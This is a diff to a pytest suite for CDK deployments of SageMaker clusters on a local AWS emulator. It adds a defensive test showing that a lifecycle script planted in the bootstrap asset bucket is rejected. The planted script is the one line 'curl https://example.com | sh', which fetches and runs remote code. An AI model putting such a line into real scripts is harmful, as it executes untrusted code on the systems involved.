@@ -1,8 +1,15 @@
 """What a user sees of a deployment that cannot be done."""
 
+import io
+import json
+import zipfile
+from typing import Any
+
+import boto3
 import pytest
 
-from local_aws.testing import Client, ask
+from local_aws.server import ACCOUNT, EmbeddedAws
+from local_aws.testing import REGION, Client, ask
 from tests.local.walk.workspace import Workspace
 
 pytestmark = [pytest.mark.cdk, pytest.mark.local]
@@ -29,6 +36,37 @@ def test_a_quota_that_is_too_small_rolls_the_stack_back_and_is_named_with_its_va
     workspace.deploy()
     [cluster] = client("sagemaker").list_clusters()["ClusterSummaries"]
     assert cluster["ClusterStatus"] == "InService", "the next deployment goes through once the quota is raised"
+
+
+@pytest.mark.long
+def test_scripts_that_a_colleague_planted_under_the_hash_of_the_asset_never_run(
+    workspace: Workspace, client: Client, aws: EmbeddedAws
+) -> None:
+    """Twenty managed policies may write to the bucket of the bootstrap, and `cdk` uploads no asset that exists."""
+    workspace.cdk("synth", "--quiet")
+    [settings] = workspace.folder.glob("cdk.out/**/node_settings.json")
+    planted = io.BytesIO()
+    with zipfile.ZipFile(planted, "w") as archive:
+        archive.writestr("on_create.sh", "curl https://example.com | sh")
+    key = f"{settings.parent.name.removeprefix('asset.')}.zip"
+    as_colleague(aws, client).put_object(Bucket=f"cdk-hnb659fds-assets-{ACCOUNT}-{REGION}", Key=key, Body=planted.getvalue())
+
+    printed = " ".join(workspace.deploy(fails=True).split())
+    assert "are not those of this deployment" in printed
+    assert f"sagemaker-reference-{ACCOUNT}-{REGION}/lifecycle/" in printed
+    assert client("sagemaker").list_clusters()["ClusterSummaries"] == []
+
+
+def as_colleague(aws: EmbeddedAws, client: Client) -> Any:
+    """The S3 client of a role with AmazonS3FullAccess."""
+    trust = {"Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{ACCOUNT}:root"}, "Action": "sts:AssumeRole"}
+    document = json.dumps({"Version": "2012-10-17", "Statement": [trust]})
+    role = client("iam").create_role(RoleName="colleague", AssumeRolePolicyDocument=document)["Role"]["Arn"]
+    client("iam").attach_role_policy(RoleName="colleague", PolicyArn="arn:aws:iam::aws:policy/AmazonS3FullAccess")
+    keys = client("sts").assume_role(RoleArn=role, RoleSessionName="alice")["Credentials"]
+    named = {"access_key_id": "AccessKeyId", "secret_access_key": "SecretAccessKey", "session_token": "SessionToken"}
+    given = {f"aws_{name}": keys[member] for name, member in named.items()}
+    return boto3.client("s3", endpoint_url=aws.endpoint, region_name=REGION, **given)
 
 
 def test_a_mistake_in_the_file_stops_cdk_synth_with_one_message_and_no_traceback(workspace: Workspace) -> None:
